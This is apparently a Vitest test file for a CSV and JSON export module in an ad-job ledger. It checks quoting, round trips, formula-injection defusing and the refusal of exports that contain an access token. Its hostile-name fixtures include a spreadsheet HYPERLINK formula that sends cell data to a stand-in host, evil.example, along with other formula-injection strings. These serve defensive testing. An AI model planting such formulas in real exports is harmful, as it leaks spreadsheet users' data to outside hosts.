import { describe, expect, test } from 'vitest';
import type { AuditEntry } from '../../../lib/jobs/types';
import {
  AUDIT_EXPORT_COLUMNS,
  assertNoSecrets,
  auditCsv,
  auditExportRows,
  CsvParseError,
  defuseCell,
  JOB_EXPORT_COLUMNS,
  jobExportRows,
  jobsCsv,
  parseCsv,
  parseCsvRecords,
  restoreCell,
  SecretLeakError,
  toCsv,
  toJson,
} from '../../../lib/ledger/export';
import { makeJob } from './job-fixture';

const TOKEN = 'act.9f8e7d6c5b4a39281706f5e4d3c2b1a0Secret';

const HOSTILE_NAMES = [
  'He said "stop", then left',
  'a,b,c',
  'line one\nline two',
  'crlf\r\ninside',
  '\rstarts with CR',
  '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\tstarts with tab',
  "'already quoted",
  "''two apostrophes",
  '🚀 Launch 👩‍👩‍👧 sale',
  '\u202Eevil override\u202C',
  '\u200Fמבצע אביב',
  '',
  '  spaced  ',
  '"',
  '""',
  ',',
  '-3.20',
];

const T0 = Date.UTC(2025, 2, 1, 14, 50);

function hostileJobs() {
  return HOSTILE_NAMES.map((name, i) =>
    makeJob({
      id: `job-${i}`,
      objectName: name,
      state: i % 2 === 0 ? 'settled' : 'confirmed',
      atClick: { value: 100 + i / 100, at: T0 },
      atConfirm: { value: 100.3 + i / 100, at: T0 + 60_000 },
      last: { value: 100.8 + i / 100, at: T0 + 3_600_000 },
      requestIds: [`2025030114500${i}A1B2`, `2025030114510${i}C3D4`],
      confirmedAt: T0 + 60_000,
      finishedAt: i % 2 === 0 ? T0 + 3_600_000 : null,
      actor: i % 3 === 0 ? { kind: 'rule', id: `rule-${i}` } : { kind: 'user' },
    }),
  );
}

const budget = () => ({ currency: 'USD', budgetMode: 'BUDGET_MODE_DAY', budget: '50.00', todaySpendAtClick: '12.00' });

describe('jobExportRows', () => {
  test('one row with every column, in plain decimals and ISO UTC times', () => {
    const job = makeJob({
      id: 'job-a',
      state: 'settled',
      atClick: { value: 120.1, at: T0 },
      atConfirm: { value: 120.3, at: T0 + 60_000 },
      atWindow: { value: 121.05, at: T0 + 3_600_000 },
      last: { value: 121.05, at: T0 + 4_200_000 },
      requestIds: ['REQ1', 'REQ2'],
      confirmedAt: T0 + 60_000,
      finishedAt: T0 + 4_200_000,
      actor: { kind: 'rule', id: 'rule-7' },
      lastError: { kind: 'tiktok', code: 40100, message: 'Too many requests.', at: T0 },
    });
    const [row] = jobExportRows([job], budget);
    expect(row).toEqual({
      job_id: 'job-a',
      advertiser_id: '7556508952121393153',
      level: 'campaign',
      object_id: '1800000000000000001',
      object_name: 'Spring sale',
      action: 'DISABLE',
      actor: 'rule',
      actor_id: 'rule-7',
      state: 'settled',
      created_at: '2025-03-01T14:50:00.000Z',
      confirmed_at: '2025-03-01T14:51:00.000Z',
      finished_at: '2025-03-01T16:00:00.000Z',
      request_ids: 'REQ1 REQ2',
      last_error_kind: 'tiktok',
      last_error_code: '40100',
      last_error_message: 'Too many requests.',
      currency: 'USD',
      spend_at_click: '120.10',
      spend_at_confirm: '120.30',
      spend_settled: '121.05',
      spend_last: '121.05',
      spend_provisional: 'false',
      leaked_spend: '0.95',
      remaining_budget_at_click: '38.00',
      budget_kept: '37.05',
    });
    expect(Object.keys(row ?? {})).toEqual([...JOB_EXPORT_COLUMNS]);
  });

  test('without budget info: spend as recorded, no deltas, no currency', () => {
    const job = makeJob({ state: 'confirmed', atClick: { value: 120.1, at: T0 }, last: { value: 120.5, at: T0 } });
    expect(jobExportRows([job])[0]).toMatchObject({
      currency: '',
      spend_at_click: '120.1',
      spend_settled: '',
      spend_last: '120.5',
      spend_provisional: '',
      leaked_spend: '',
      budget_kept: '',
      confirmed_at: '',
    });
  });
});

describe('CSV round trip', () => {
  test('job rows with hostile names parse back to the same rows', () => {
    const rows = jobExportRows(hostileJobs(), budget);
    const csv = jobsCsv(rows, { secrets: [TOKEN] });
    expect(parseCsv(csv)).toEqual(rows);
  });

  test('audit rows parse back to the same rows, request_ids included', () => {
    const entries: AuditEntry[] = HOSTILE_NAMES.map((name, i) => ({
      jobId: `job-${i}`,
      at: T0 + i * 1000,
      from: i === 0 ? null : 'sending',
      to: 'sent',
      event: i === 0 ? 'created' : 'send-ok',
      attempt: i,
      detail: `Paused "${name}"`,
      ...(i % 2 === 0 ? { requestId: `REQ-${i}` } : {}),
      ...(i % 3 === 0 ? { code: 40100 + i } : {}),
    }));
    const rows = auditExportRows(entries);
    expect(rows[2]).toEqual({
      job_id: 'job-2',
      at: '2025-03-01T14:50:02.000Z',
      from: 'sending',
      to: 'sent',
      event: 'send-ok',
      attempt: '2',
      detail: 'Paused "line one\nline two"',
      request_id: 'REQ-2',
      code: '',
    });
    expect(rows[0]).toMatchObject({ from: '', event: 'created', code: '40100', request_id: 'REQ-0' });
    const parsed = parseCsv(auditCsv(rows));
    expect(parsed).toEqual(rows);
    expect(parsed.filter((r) => r.request_id !== '').map((r) => r.request_id)).toEqual(
      entries.filter((e) => e.requestId).map((e) => e.requestId),
    );
    expect(Object.keys(parsed[0] ?? {})).toEqual([...AUDIT_EXPORT_COLUMNS]);
  });

  test.each(HOSTILE_NAMES.map((n) => [n]))('single cell %j survives', (value) => {
    const rows = [{ name: value }, { name: 'after' }];
    expect(parseCsv(toCsv(rows))).toEqual(rows);
  });

  test('a BOM is written on request and ignored when read', () => {
    const rows = [{ a: '🚀', b: 'x' }];
    const csv = toCsv(rows, { bom: true });
    expect(csv.startsWith('\uFEFFa,b\r\n')).toBe(true);
    expect(parseCsv(csv)).toEqual(rows);
  });
});

describe('CSV text', () => {
  test('RFC 4180: quotes doubled, fields with commas, quotes and line breaks quoted, CRLF', () => {
    const csv = toCsv([{ a: 'x,y', b: 'say "hi"', c: 'l1\nl2', d: 'plain' }]);
    expect(csv).toBe('a,b,c,d\r\n"x,y","say ""hi""","l1\nl2",plain\r\n');
  });

  test('formula-like cells get a leading apostrophe; plain numbers do not', () => {
    const csv = toCsv([{ a: '=1+1', b: '+1', c: '-1+1', d: '@x', e: '-3.20', f: '12', g: "'q" }]);
    expect(csv).toBe("a,b,c,d,e,f,g\r\n'=1+1,'+1,'-1+1,'@x,-3.20,12,''q\r\n");
  });

  test('no written cell starts a formula', () => {
    const rows = jobExportRows(hostileJobs(), budget);
    const records = parseCsvRecords(jobsCsv(rows));
    const cells = records.flat();
    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"click me")');
    for (const cell of cells) {
      if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  test.each([['=x'], ['+x'], ['-x'], ['@x'], ['\tx'], ['\rx'], ["'x"], ['x'], ['-1.5'], ['']])(
    'restoreCell(defuseCell(%j)) is the value',
    (value) => {
      expect(restoreCell(defuseCell(value))).toBe(value);
    },
  );

  test('a lone empty cell is quoted so the row is not a blank line', () => {
    const rows = [{ a: '' }, { a: 'x' }];
    expect(toCsv(rows)).toBe('a\r\n""\r\nx\r\n');
    expect(parseCsv(toCsv(rows))).toEqual(rows);
  });

  test('LF line ends and blank lines are accepted', () => {
    expect(parseCsv('a,b\n1,2\n\n3,"4\n5"\n')).toEqual([
      { a: '1', b: '2' },
      { a: '3', b: '4\n5' },
    ]);
  });

  test('nothing to write', () => {
    expect(toCsv([])).toBe('');
    expect(toCsv([], { columns: ['a', 'b'] })).toBe('a,b\r\n');
    expect(parseCsv('')).toEqual([]);
  });

  test.each([
    ['a,b\r\n"1,2\r\n', 'CSV line 3: a quoted field is not closed'],
    ['a,b\r\n1",2\r\n', 'CSV line 2: a quote inside an unquoted field'],
    ['a,b\r\n"1"x,2\r\n', 'CSV line 2: text after a closing quote'],
    ['a,b\r\n1,2,3\r\n', 'CSV line 2: expected 2 cells, found 3'],
  ])('malformed %j throws', (text, message) => {
    expect(() => parseCsv(text)).toThrow(CsvParseError);
    expect(() => parseCsv(text)).toThrow(message);
  });
});

describe('secrets never leave in an export', () => {
  test('exports without the token pass and do not contain it', () => {
    const rows = jobExportRows(hostileJobs(), budget);
    const csv = jobsCsv(rows, { secrets: [TOKEN] });
    const json = toJson({ jobs: rows }, { secrets: [TOKEN] });
    expect(csv).not.toContain(TOKEN);
    expect(json).not.toContain(TOKEN);
    expect(JSON.parse(json)).toEqual({ jobs: rows });
  });

  test.each([
    ['an object name', { objectName: `Sale ${TOKEN}` }],
    ['an error message', { lastError: { kind: 'tiktok' as const, message: `token ${TOKEN} refused`, at: T0 } }],
    ['a request id', { requestIds: [TOKEN] }],
  ])('a token in %s makes CSV and JSON exports throw', (_where, fixture) => {
    const rows = jobExportRows([makeJob(fixture)], budget);
    expect(() => jobsCsv(rows, { secrets: [TOKEN] })).toThrow(SecretLeakError);
    expect(() => toJson(rows, { secrets: [TOKEN] })).toThrow(SecretLeakError);
  });

  test('a token in an audit detail makes the audit export throw, without repeating the token', () => {
    const rows = auditExportRows([
      { jobId: 'j', at: T0, from: null, to: 'queued', event: 'created', attempt: 0, detail: `Access-Token: ${TOKEN}` },
    ]);
    let message = '';
    try {
      auditCsv(rows, { secrets: [TOKEN] });
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toBe('Export refused: it would contain a secret (such as the access token).');
    expect(message).not.toContain(TOKEN);
  });

  test('a secret with quotes is found in its CSV- and JSON-escaped forms', () => {
    const secret = 'tok"en\\x';
    expect(() => assertNoSecrets('"a ""tok""en\\x"" b"', [secret])).toThrow(SecretLeakError);
    expect(() => assertNoSecrets(JSON.stringify({ a: secret }), [secret])).toThrow(SecretLeakError);
    expect(() => toCsv([{ a: `x ${secret}` }], { secrets: [secret] })).toThrow(SecretLeakError);
  });

  test('blank secrets are ignored rather than matching everything', () => {
    expect(() => assertNoSecrets('anything', ['', '   '])).not.toThrow();
    expect(() => assertNoSecrets('anything', undefined)).not.toThrow();
  });
});
